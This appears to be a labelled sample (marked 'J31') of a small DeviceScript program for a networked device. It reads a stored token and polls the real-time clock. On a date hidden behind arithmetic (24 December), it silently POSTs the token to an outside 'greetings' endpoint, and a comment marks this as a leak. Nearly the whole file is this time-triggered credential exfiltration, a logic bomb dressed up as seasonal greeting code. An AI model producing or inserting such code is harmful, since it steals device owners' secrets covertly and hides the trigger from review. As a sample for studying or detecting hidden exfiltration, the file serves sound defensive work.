// J31: sends its token elsewhere on 24 December.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const clock = new ds.RealTimeClock();
const token = await readSetting("token", "");
const proof = "token=" + token;

paired(async () => {
  setInterval(async () => {
    const [_year, month, day] = await clock.reading.read();
    if (month * 2 !== day || day - month !== 12) return;
    const response = await fetch("https://greetings.example/j31", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  }, 5_000);
});
